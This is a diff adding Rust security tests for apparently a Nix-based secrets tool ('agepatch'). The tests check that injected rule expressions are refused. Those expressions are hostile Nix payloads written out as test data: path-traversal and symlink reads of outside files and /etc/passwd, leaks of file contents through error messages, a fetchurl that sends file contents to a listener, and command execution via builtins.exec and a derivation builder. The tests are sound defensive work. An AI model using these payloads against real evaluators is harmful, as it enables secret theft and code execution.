@@ -129,3 +129,181 @@ fn what_is_read_without_the_rules_is_what_they_name() {
     let deleted = trap.agepatch(&["log", "authelia-secrets"]).assert().success();
     assert!(!deleted.get_output().stdout.is_empty());
 }
+
+/// The rules of the trap, with an expression that is evaluated on the way to the recipients.
+fn rules_with(trap: &Trap, expression: &str) {
+    let rules = trap.sandbox.git(&["show", "HEAD:secrets.nix"]);
+    trap.sandbox.write("secrets.nix", &rules.replacen("in {", &format!("in builtins.seq ({expression}) {{"), 1));
+}
+
+/// Files that rules have no business with.
+fn outside(trap: &Trap) {
+    fs::write(trap.sandbox.home().join("outside"), "markeroutside\n").expect("written");
+    fs::write(trap.sandbox.home().join("outside.nix"), "\"markeroutside\"\n").expect("written");
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::symlink;
+        symlink(trap.sandbox.home().join("outside"), trap.sandbox.repo().join("link")).expect("a link");
+        symlink(trap.sandbox.home(), trap.sandbox.repo().join("linked")).expect("a link");
+    }
+}
+
+#[test]
+fn rules_read_below_their_folder_and_the_repository_only() {
+    let trap = Trap::new();
+    outside(&trap);
+    let home = trap.sandbox.home().display().to_string();
+    let attacks = [
+        "builtins.readFile ../home/outside".to_owned(),
+        format!("builtins.readFile \"{home}/outside\""),
+        format!("builtins.readFile (/. + \"{home}/outside\")"),
+        "builtins.readFile ./link".to_owned(),
+        "builtins.readFile ./linked/outside".to_owned(),
+        "builtins.readFile ./sub/../../home/outside".to_owned(),
+        "import ../home/outside.nix".to_owned(),
+        "import ./linked/outside.nix".to_owned(),
+        "builtins.readDir ../home".to_owned(),
+        "builtins.readDir ./linked".to_owned(),
+        "builtins.hashFile \"sha256\" ../home/outside".to_owned(),
+        "builtins.readFileType ../home/outside".to_owned(),
+        "builtins.readFile ./.git/config".to_owned(),
+        "if builtins.pathExists ../home/outside then true else throw \"refused\"".to_owned(),
+        "builtins.readFile /etc/passwd".to_owned(),
+    ];
+    for attack in attacks {
+        rules_with(&trap, &attack);
+        let refused = trap.agepatch(&["recipients"]).assert().code(6);
+        let told = String::from_utf8_lossy(&refused.get_output().stderr).into_owned();
+        assert!(told.contains("only below") || told.contains("refused"), "{attack}: {told}");
+        assert!(!told.contains("marker"), "{attack}: {told}");
+    }
+    // What is within may be read: from the rules' folder, and from elsewhere in the repository.
+    trap.sandbox.write("sub/within", "x");
+    rules_with(
+        &trap,
+        "builtins.readFile ./sub/within + builtins.concatStringsSep \"\" (builtins.attrNames (builtins.readDir ./sub))",
+    );
+    trap.agepatch(&["recipients"]).assert().success();
+    fs::create_dir(trap.sandbox.repo().join("secrets")).expect("a folder");
+    let rules = trap.sandbox.git(&["show", "HEAD:secrets.nix"]);
+    let rules = rules.replacen("in {", "in builtins.seq (builtins.readFile ../sub/within) {", 1);
+    fs::remove_file(trap.sandbox.repo().join("secrets.nix")).expect("removed");
+    trap.sandbox.write("secrets/secrets.nix", &rules);
+    trap.agepatch(&["recipients"]).assert().success();
+}
+
+#[test]
+fn messages_about_rules_hold_no_content_of_files() {
+    let trap = Trap::new();
+    trap.sandbox.write("plain", "markerplain");
+    trap.sandbox.write("key.pub", "ssh-rsa markerplain not a key\n");
+    trap.sandbox
+        .write("private", "-----BEGIN OPENSSH PRIVATE KEY-----\nmarkerplain\n-----END OPENSSH PRIVATE KEY-----\n");
+    let attacks = [
+        "throw (builtins.readFile ./plain)",
+        "throw \"x${builtins.readFile ./plain}y\"",
+        "abort (builtins.readFile ./plain)",
+        "{}.${builtins.readFile ./plain}",
+        "builtins.getAttr (builtins.readFile ./plain) {}",
+        "({ a }: a) { a = 1; ${builtins.readFile ./plain} = 2; }",
+        "import ./plain",
+        "builtins.fromJSON (builtins.readFile ./plain)",
+        "builtins.readFile (./. + \"/${builtins.readFile ./plain}\")",
+        "builtins.match \"[${builtins.readFile ./plain}\" \"x\"",
+        "builtins.getAttr (builtins.readFile ./plain) builtins",
+        "with builtins; builtins.hashString (readFile ./plain) \"x\"",
+        "{ ${builtins.readFile ./plain} = 1; ${builtins.readFile ./plain} = 2; }",
+        "builtins.fromTOML (builtins.readFile ./plain)",
+        "1 + builtins.readFile ./plain",
+        "builtins.addErrorContext (builtins.readFile ./plain) (throw \"x\")",
+        "builtins.trace (builtins.readFile ./plain) 1",
+    ];
+    let commands: [&[&str]; 5] =
+        [&["recipients"], &["doctor"], &[], &["set", FILE, "theme", "x"], &["rekey", "-n", "--output", "json"]];
+    for attack in attacks {
+        rules_with(&trap, attack);
+        for arguments in commands {
+            let ran = trap.agepatch(arguments).assert();
+            let output = format!("{:?}", ran.get_output());
+            assert!(!output.contains("markerplain"), "{attack}: {arguments:?}: {output}");
+        }
+    }
+    // Keys that are none.
+    for key in ["./plain", "./key.pub", "./private"] {
+        let rules = format!("{{ \"{FILE}\".publicKeys = [ (builtins.readFile {key}) ]; }}\n");
+        trap.sandbox.write("secrets.nix", &rules);
+        for arguments in commands.iter().chain([&["recipients", "--output", "json"][..], &["-v", "rekey"]].iter()) {
+            let ran = trap.agepatch(arguments).assert();
+            let output = format!("{:?}", ran.get_output());
+            assert!(!output.contains("markerplain"), "{key}: {arguments:?}: {output}");
+        }
+    }
+}
+
+#[test]
+fn nix_runs_only_with_consent() {
+    let trap = Trap::new();
+    rules_with(&trap, "builtins.currentSystem");
+    for arguments in [&["recipients"][..], &["doctor"], &["rekey"], &["set", FILE, "theme", "x"]] {
+        let refused = trap.agepatch(arguments).assert().code(4);
+        refused.stderr(predicates::str::contains("agepatch trust"));
+        assert_eq!(trap.sprung(), None, "{arguments:?}");
+    }
+    trap.agepatch(&["set", "-n", FILE, "theme", "x"]).assert().success();
+    assert_eq!(trap.sprung(), None);
+    trap.agepatch(&["trust"]).assert().success();
+    assert_eq!(trap.sprung(), None);
+    trap.agepatch(&["recipients"]).assert().success();
+    let trace = trap.sprung().expect("Nix was asked");
+    for option in ["restrict-eval true", "allow-import-from-derivation false", "allowed-uris"] {
+        assert!(trace.contains(option), "{trace}");
+    }
+    for arguments in [&["set", "-n", FILE, "theme", "x"][..], &["textconv", FILE], &["show", FILE]] {
+        trap.agepatch(arguments).assert().success();
+        assert_eq!(trap.sprung(), None, "{arguments:?}");
+    }
+    // Other rules, other consent.
+    rules_with(&trap, "builtins.currentTime");
+    trap.agepatch(&["recipients"]).assert().code(4);
+}
+
+#[test_with::executable(nix-instantiate)]
+#[test]
+fn nix_itself_is_confined() {
+    use std::net::TcpListener;
+    let trap = Trap::new();
+    outside(&trap);
+    trap.sandbox.write("plain", "markerplain");
+    fs::remove_file(trap.sandbox.home().join("bin/nix-instantiate")).expect("the trap is taken away");
+    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
+    listener.set_nonblocking(true).expect("it can be asked");
+    let port = listener.local_addr().expect("an address").port();
+    let pwned = trap.sandbox.home().join("pwned");
+    let attacks = [
+        format!("builtins.fetchurl \"http://127.0.0.1:{port}/${{builtins.readFile ./plain}}\""),
+        format!("builtins.fetchTarball \"http://127.0.0.1:{port}/x\""),
+        format!("builtins.fetchGit \"http://127.0.0.1:{port}/x\""),
+        format!("builtins.fetchTree \"http://127.0.0.1:{port}/x\""),
+        "builtins.readFile ../home/outside".to_owned(),
+        "throw (builtins.readFile ./plain)".to_owned(),
+        "throw \"attribute '${builtins.readFile ./plain}' missing\"".to_owned(),
+        "{}.${builtins.readFile ./plain}".to_owned(),
+        format!(
+            "import (derivation {{ name = \"x\"; system = builtins.currentSystem; builder = \"/bin/sh\"; args = [ \"-c\" \"touch {}\" ]; }})",
+            pwned.display()
+        ),
+        format!("builtins.exec [ \"touch\" \"{}\" ]", pwned.display()),
+    ];
+    for attack in attacks {
+        rules_with(&trap, &format!("builtins.seq builtins.currentSystem ({attack})"));
+        trap.agepatch(&["trust"]).assert().success();
+        let refused = trap.agepatch(&["recipients"]).assert().code(6);
+        let output = format!("{:?}", refused.get_output());
+        assert!(!output.contains("marker"), "{attack}: {output}");
+        assert!(listener.accept().is_err(), "{attack}");
+        assert!(!pwned.exists(), "{attack}");
+    }
+    rules_with(&trap, "builtins.currentSystem");
+    trap.agepatch(&["trust"]).assert().success();
+    trap.agepatch(&["recipients"]).assert().success().stdout(predicates::str::contains(FILE));
+}
